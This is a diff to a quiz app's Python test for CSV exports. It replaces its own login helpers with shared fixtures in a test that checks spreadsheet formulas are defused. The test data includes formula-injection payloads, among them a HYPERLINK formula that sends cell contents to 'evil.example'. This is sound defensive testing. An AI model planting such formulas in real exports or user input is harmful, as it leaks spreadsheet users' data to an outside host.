@@ -11,8 +11,7 @@ from sqlalchemy import select
 from quizapp.exports.spreadsheet import csv_text
 from quizapp.extensions import db
 from quizapp.models import User
-from tests.conftest import PASSWORD
-from tests.web.test_pages import csrf_from
+from tests.conftest import PASSWORD, login, web_login
 
 EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
 EVIL_NAME = "@SUM(1+1)"
@@ -34,11 +33,6 @@ def _cells(body: str) -> list[str]:
     return [cell for row in csv.reader(io.StringIO(body)) for cell in row]
 
 
-def _bearer(client, username):
-    res = client.post("/api/v1/auth/login", json={"username": username, "password": PASSWORD})
-    return {"Authorization": f"Bearer {res.json['token']}"}
-
-
 def test_the_writer_defuses_formulas():
     body = csv_text(["a", "b"], [["=1+2", "-3"], ["@x", "+y"], ["fine", -5]])
     cells = _cells(body)
@@ -48,7 +42,7 @@ def test_the_writer_defuses_formulas():
 def test_every_csv_download_defuses_formulas(app, client, make_user):
     make_user("tutor1", "tutor")
     make_user("asha", "assessor")
-    tutor = _bearer(client, "tutor1")
+    tutor = login(client, "tutor1")
     cohort = client.post("/api/v1/cohorts", json={"name": "C", "qualification": "TEST-Q"},
                          headers=tutor).json
     client.post(f"/api/v1/cohorts/{cohort['id']}/assessors", json={"username": "asha"},
@@ -58,7 +52,7 @@ def test_every_csv_download_defuses_formulas(app, client, make_user):
     res = client.post("/api/v1/auth/register", json={
         "username": EVIL_NAME, "password": PASSWORD, "join_code": cohort["join_code"]})
     assert res.status_code == 201, res.json
-    learner = _bearer(client, EVIL_NAME)
+    learner = login(client, EVIL_NAME)
     session = client.post(f"/api/v1/quizzes/{quiz['id']}/start", headers=learner).json["session"]
     answered = client.post(f"/api/v1/practice/{session}/answer", headers=learner,
                            json={"text": EVIL_ANSWER, "client_id": "x1"})
@@ -66,12 +60,11 @@ def test_every_csv_download_defuses_formulas(app, client, make_user):
     with app.app_context():
         learner_id = db.session.scalar(select(User.id).where(User.username == EVIL_NAME))
 
-    assessor = _bearer(client, "asha")
+    assessor = login(client, "asha")
     results = client.get(f"/api/v1/cohorts/{cohort['id']}/results.csv", headers=tutor)
     progress = client.get(f"/api/v1/cohorts/{cohort['id']}/progress.csv", headers=assessor)
     web = app.test_client()
-    token = csrf_from(web.get("/login").get_data(as_text=True))
-    web.post("/login", data={"username": "asha", "password": PASSWORD, "csrf_token": token})
+    web_login(web, "asha")
     pack = web.get(f"/assessor/learners/{learner_id}/pack.csv")
     page_results = web.get(f"/tutor/cohorts/{cohort['id']}/results.csv")
     page_progress = web.get(f"/assessor/cohorts/{cohort['id']}/progress.csv")
